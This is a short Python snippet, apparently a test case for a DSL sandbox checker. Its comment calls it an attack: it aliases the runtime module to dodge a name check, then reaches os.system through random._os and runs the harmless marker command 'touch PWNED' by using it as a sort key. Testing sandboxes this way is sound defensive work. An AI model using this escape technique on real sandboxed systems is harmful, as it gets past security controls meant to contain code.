# Attack: copy the runtime module to another name, so that a check of `_rt.<name>` never sees it.
from dsl.runtime import engine as _rt

x = _rt
sorted(["touch PWNED"], key=x.random._os.system)
